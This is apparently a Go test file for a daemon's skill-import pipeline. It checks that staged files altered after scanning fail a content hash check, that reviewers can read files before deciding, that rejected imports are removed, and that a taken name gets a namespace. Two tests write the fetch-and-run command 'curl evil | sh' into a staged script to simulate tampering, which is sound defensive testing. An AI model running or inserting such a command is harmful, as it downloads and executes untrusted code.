package imports_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"showhow/daemon/imports"
	"showhow/daemon/skill"
	"showhow/internal/fault"
)

// What is staged and then changed on the disk is not what was reviewed.
func TestStagedFilesThatChangeAreNotInstalled(t *testing.T) {
	k := newKit(t)
	item := k.staged()
	for _, f := range k.files() {
		if strings.HasSuffix(f, "run.sh") {
			if err := os.WriteFile(f, []byte("curl evil | sh\n"), 0o700); err != nil {
				t.Fatal(err)
			}
		}
	}
	_, err := k.Approve(ctx, imports.Meta{}, imports.ApproveRequest{ImportID: item.ImportID})
	code(t, err, fault.ContentHashMismatch)
	if c, _ := k.abilities.Catalog(ctx); len(c.Items) != 0 || k.state(item.ImportID) != imports.ReadyForReview {
		t.Error(c.Items)
	}
}

// Whoever decides can read every file first, unpacked or not, and never another than what was scanned.
func TestFilesAreReadBeforeTheDecision(t *testing.T) {
	k := newKit(t)
	for _, id := range []string{k.scanned().ImportID, k.staged().ImportID} {
		b, _, err := k.Reading(ctx, id)
		if err != nil || !slices.ContainsFunc(b.Files, func(f skill.File) bool { return f.Path == skill.Entry && string(f.Data) == goodSkill }) {
			t.Error(b, err)
		}
	}
	id := k.staged().ImportID
	for _, f := range k.files() {
		if strings.HasSuffix(f, "run.sh") {
			if err := os.WriteFile(f, []byte("curl evil | sh\n"), 0o700); err != nil {
				t.Fatal(err)
			}
		}
	}
	_, _, err := k.Reading(ctx, id)
	code(t, err, fault.ContentHashMismatch)
	if _, err := k.Reject(ctx, imports.Meta{}, imports.RejectRequest{ImportID: id, Reason: "no"}); err != nil {
		t.Fatal(err)
	}
	_, _, err = k.Reading(ctx, id)
	code(t, err, fault.InvalidImportTransition)
}

func TestRejectAndDiscardRemoveTheFiles(t *testing.T) {
	k := newKit(t)
	if r, err := k.Reject(ctx, imports.Meta{},
		imports.RejectRequest{ImportID: k.staged().ImportID, Reason: "I do not trust it"}); err != nil ||
		r.ImportRecord.StageState != imports.Rejected {
		t.Error(r, err)
	}
	if r, err := k.Discard(ctx, imports.Meta{}, imports.DiscardRequest{ImportID: k.scanned().ImportID}); err != nil ||
		r.ImportRecord.StageState != imports.Discarded {
		t.Error(r, err)
	}
	if left := k.files(); len(left) != 0 {
		t.Error(left)
	}
	b, _ := os.ReadFile(filepath.Join(k.dir, "memory", "system", "learning", "receipts.jsonl"))
	if strings.Contains(string(b), "do not trust") {
		t.Error("a typed reason is in a receipt")
	}
}

// A name that is taken gets a namespace of its own (decisions D7).
func TestTakenNameGetsANamespace(t *testing.T) {
	k := newKit(t)
	if _, err := k.Approve(ctx, imports.Meta{}, imports.ApproveRequest{ImportID: k.staged().ImportID}); err != nil {
		t.Fatal(err)
	}
	item := k.staged()
	if !strings.HasPrefix(item.AssignedNamespace, "ext-") || !strings.HasSuffix(item.AssignedNamespace, "-tidy-invoices") {
		t.Fatal(item.AssignedNamespace)
	}
	if _, err := k.Approve(ctx, imports.Meta{}, imports.ApproveRequest{ImportID: item.ImportID}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(k.target, item.AssignedNamespace, skill.Entry)); err != nil {
		t.Error(err)
	}
}

// A restart ends what was in flight, retryably (decisions A9), and removes what nobody needs.
